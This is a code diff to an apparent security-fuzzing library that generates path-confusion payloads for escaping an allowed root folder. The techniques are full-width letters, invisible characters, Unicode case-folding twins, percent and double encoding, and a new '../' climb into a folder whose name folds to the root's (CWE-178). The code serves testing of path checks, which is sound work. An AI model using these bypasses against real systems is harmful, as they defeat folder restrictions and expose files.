@@ -3,7 +3,7 @@
 import unicodedata
 from collections.abc import Iterator
 
-from capfuzz.attacks.techniques.compose import base, leaf, way
+from capfuzz.attacks.techniques.compose import base, leaf
 from capfuzz.attacks.techniques.registry import Kind, technique
 
 # A letter, and another that some folding takes for it.
@@ -43,6 +43,8 @@ def decomposed_root(root: str, target: str) -> Iterator[str]:
 def compatible_root(root: str, target: str) -> Iterator[str]:
     """Write the first or last letter of the root in full width, mathematical or superscript."""
     folders, _, name = base(root).rpartition("/")
+    if not name:
+        return
     first, last = ord(name[0]), ord(name[-1])
     if name[0].isascii() and name[0].isalpha():
         yield f"{folders}/{chr(first + 0xFEE0)}{name[1:]}/{leaf(target)}"
@@ -61,6 +63,8 @@ def compatible_root(root: str, target: str) -> Iterator[str]:
 def ignorable_in_root(root: str, target: str) -> Iterator[str]:
     """Put an invisible character into the root's name, which makes another folder of it."""
     name = base(root)
+    if not name:
+        return
     for mark in ("\u200b", "\u00ad", "\u2060", "\ufe0f"):
         yield f"{name[:-1]}{mark}{name[-1]}/{leaf(target)}"
 
@@ -74,11 +78,24 @@ def ignorable_in_root(root: str, target: str) -> Iterator[str]:
 )
 def folding_letters(root: str, target: str) -> Iterator[str]:
     """Replace a letter of the root by one that folds to it: Kelvin, long s, dotless i, sharp s."""
-    ups, _ = way(root, "/")
     for letter, twin in _FOLDING:
         if letter in base(root):
             yield f"{base(root).replace(letter, twin, 1)}/{leaf(target)}"
-            yield f"{base(root)}/{'../' * ups}{base(root)[1:].replace(letter, twin, 1)}/{leaf(target)}"
+
+
+@technique(
+    "folding-letters-after-climb",
+    kind=Kind.PATH,
+    group="case",
+    cwe="CWE-178",
+    surfaces=("path",),
+    needs="makes the path canonical and then compares a folded form of it",
+)
+def folding_letters_after_climb(root: str, target: str) -> Iterator[str]:
+    """Climb out of the root and into a folder whose name folds to the root's."""
+    for letter, twin in _FOLDING:
+        if letter in leaf(root):
+            yield f"{base(root)}/../{leaf(root).replace(letter, twin, 1)}/{leaf(target)}"
 
 
 @technique(
@@ -91,5 +108,7 @@ def folding_letters(root: str, target: str) -> Iterator[str]:
 def encoded_root(root: str, target: str) -> Iterator[str]:
     """Encode a letter of the root's name, which makes another folder of it."""
     name = base(root)
+    if not name:
+        return
     yield f"{name[:-1]}%{ord(name[-1]):02x}/{leaf(target)}"
     yield f"{name[:-1]}%25{ord(name[-1]):02x}/{leaf(target)}"
